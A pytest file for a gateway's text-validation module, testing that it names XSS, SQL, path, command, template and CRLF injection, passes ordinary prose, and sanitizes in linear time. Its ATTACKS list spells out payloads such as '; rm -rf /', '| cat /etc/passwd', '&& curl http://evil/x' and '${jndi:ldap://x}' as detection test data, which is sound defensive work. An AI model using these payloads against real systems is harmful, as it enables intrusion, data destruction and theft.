"""Input text: attacks are named, prose passes, and nothing takes long or changes twice."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, ValidationError

from gateway.validation import text
from gateway.validation.fields import PlainText
from gateway.validation.patterns import Threat
from gateway.validation.text import inspect, sanitize

MOST = 10_000
ATTACKS = {
    Threat.XSS: [
        "<script>alert('xss')</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\uff1cscript\uff1ealert(1)",
        "<scr\0ipt>alert(1)</script>",
        '<a href="javascript:x">',
        '" onfocus=alert(1) autofocus x="',
        "<iframe src=//evil>",
        "data:text/html;base64,xx",
    ],
    Threat.SQL: [
        "' OR '1'='1",
        "' OR 1=1 --",
        "1; DROP TABLE users",
        "x' UNION SELECT name, pass FROM users--",
        "1 UNION ALL SELECT NULL,NULL",
        "admin'--",
        "'; WAITFOR DELAY '0:0:5'",
        "1 AND SLEEP(5)",
        "'; EXEC xp_cmdshell('dir')",
        "a'; delete from users where 1",
        "x'; UPDATE users SET admin=1",
        "' or true--",
        "UNION/**/SELECT/**/password,1 FROM x",
    ],
    Threat.PATH: [
        "../../etc/passwd",
        "..\\..\\windows\\system32",
        "%2e%2e%2fetc",
        "%252e%252e%252f",
        "....//....//etc/passwd",
        "/etc/passwd",
        "C:\\Windows\\System32\\config",
    ],
    Threat.COMMAND: [
        "; rm -rf /",
        "| cat /etc/passwd",
        "$(whoami)",
        "`id`",
        "&& curl http://evil/x",
        "x|whoami",
        "; id",
        "() { :; }; echo x",
    ],
    Threat.TEMPLATE: [
        "{{7*7}}",
        "${7*7}",
        "{{ config.items() }}",
        "${jndi:ldap://x}",
        "<%= 7*7 %>",
        "{% import os %}",
        "<?php echo 1; ?>",
    ],
    Threat.CRLF: [
        "x\r\nSet-Cookie: a=b",
        "x%0d%0aLocation: y",
        "a\nLocation: https://evil",
        "x\r\nContent-Length: 0",
    ],
}
PROSE = """\
O'Brien
D'Angelo and O'Neil = friends
select a table; drop me a line
Zażółć gęślą jaźń
数据库备份完成了吗
👩‍👩‍👧‍👦 🎉 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿
Привет, мир / مرحبا / می‌خواهم
Tom & Jerry, 5 < 6 and 7 > 3
if a<b then c, a <b> c, <3 you
JavaScript: The Good Parts (2008)
Union Select Committee, 5 members met
The cost is $(5) or ${5}
it's 'quoted' -- and dashed, 5' 10" -- tall
ACME "best"--since 1990
don't; update me, set it and select * the best
rock 'n' roll or 'jazz', 'yes' and 'no' in (brackets)
He said "or else"
price: 10; cat food: 5
Dear {{name}}, hello {name} [x] (y)
x = y or z = 1
https://example.com/a/b?c=d&e=f or me@example.com
C# and C++ (GNU/Linux), 50% off & free
type | name | del
see /etc for configuration
table for two; drop by
""".splitlines()


@pytest.mark.parametrize(
    ("threat", "attack"), [(threat, each) for threat in ATTACKS for each in ATTACKS[threat]]
)
def test_attacks_are_named(threat: Threat, attack: str) -> None:
    """Otherwise an application that asks here is attacked with its own input."""
    found = inspect(attack, MOST)
    assert text.SUSPICIOUS in found.errors
    assert threat in found.threats


@pytest.mark.parametrize("prose", PROSE)
def test_prose_passes(prose: str) -> None:
    """Otherwise people are refused for their names, and somebody turns the check off."""
    found = inspect(prose, MOST)
    assert (found.errors, found.warnings) == ([], [])


@pytest.mark.parametrize(
    ("given_text", "error"),
    [
        ("a\0b", text.NUL),
        ("a\x1bb", text.CONTROL),
        ("a\x9bb", text.CONTROL),
        ("a\ud800b", text.ENCODING),
        ("x" * 11, text.TOO_LONG),
    ],
)
def test_what_is_no_text_is_refused(given_text: str, error: str) -> None:
    """Otherwise it ends in a terminal, a log or a database that cannot take it."""
    assert inspect(given_text, 10).errors == [error]
    assert inspect("two\nlines\tand a tab", 100).valid


def test_what_is_not_seen_is_warned_of() -> None:
    """Otherwise a name reads as another."""
    assert inspect("user\u202enimda", MOST).warnings == [text.BIDI]
    assert inspect("ad\u200bmin", MOST).warnings == [text.HIDDEN]


@given(st.text(max_size=300))
def test_no_text_makes_inspection_or_sanitizing_fail(given_text: str) -> None:
    """Otherwise strange input is an error 500, or grows with each pass."""
    inspect(given_text, MOST)
    cleaned = sanitize(given_text)
    assert sanitize(cleaned) == cleaned


# Divided by spaces; the last three are what no word can hold.
TAGS = "< > </ /> <b> </b> <a <svg> <math> <style> <!-- --> <table> <p> <script> <template> <mi>"
TAGS += " &lt; &amp; &#x3c ' \" x href='javascript: <noscript> <![CDATA[ ]]> <title> <br>"
MARKUP = st.sampled_from([*TAGS.split(), " ", "\0", "\ud800"])


@given(st.lists(MARKUP, max_size=40).map("".join))
def test_sanitizing_broken_markup_twice_changes_nothing(markup: str) -> None:
    """Otherwise markup that was harmless when it was stored is active when it is shown."""
    cleaned = sanitize(markup)
    assert sanitize(cleaned) == cleaned
    assert "<script" not in cleaned
    assert 'href="javascript' not in cleaned


def test_sanitizing_keeps_formatting_and_takes_the_rest() -> None:
    """Otherwise it is no use, or no protection."""
    markup = "<b>Hello</b><script>x</script> <a onclick='x' href='https://example.com'>O'Brien</a>"
    cleaned = sanitize(markup)
    assert cleaned.startswith("<b>Hello</b> <a href=")
    assert "onclick" not in cleaned
    assert "O'Brien" in cleaned


PIECES = [
    "<",
    "<a ",
    "' or ",
    "../",
    "{{.",
    "${",
    "`cat ",
    ";",
    "\n ",
    "javascript:a",
    "union ",
    "a",
]
PIECES += ["%25", "&lt", "<a on", "/*", "$(", "&", "ﷺ", "<%", "or 1=", "'on", "\\", "x.", "data:"]


def seconds(piece: str, size: int) -> float:
    """Processor seconds of an inspection."""
    given_text = (piece * (size // len(piece) + 1))[:size]
    begin = time.process_time()
    inspect(given_text, size)
    return time.process_time() - begin


@pytest.mark.parametrize("piece", PIECES)
def test_inspection_takes_time_in_proportion(piece: str) -> None:
    """Otherwise a crafted text keeps a processor busy for minutes."""
    short = max(0.0005, min(seconds(piece, 4_000) for _ in range(3)))
    # The quickest of ten: 8 times the text; 64 times as long if it were quadratic.
    assert any(seconds(piece, 32_000) < 24 * short for _ in range(10))


@settings(max_examples=50)
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=4).map("".join))
def test_no_mixture_takes_long(piece: str) -> None:
    """Otherwise two patterns together do what one alone does not."""
    assert any(seconds(piece, 4_000) < 1 for _ in range(3))


class Form(BaseModel):
    """A model with text that is kept."""

    reason: PlainText = ""


def test_text_that_is_kept_is_held_to_the_same() -> None:
    """Otherwise the gateway itself stores what it warns others of."""
    assert Form(reason="O'Brien said so").reason
    with pytest.raises(ValidationError, match=text.SUSPICIOUS):
        Form(reason="<script>x</script>")
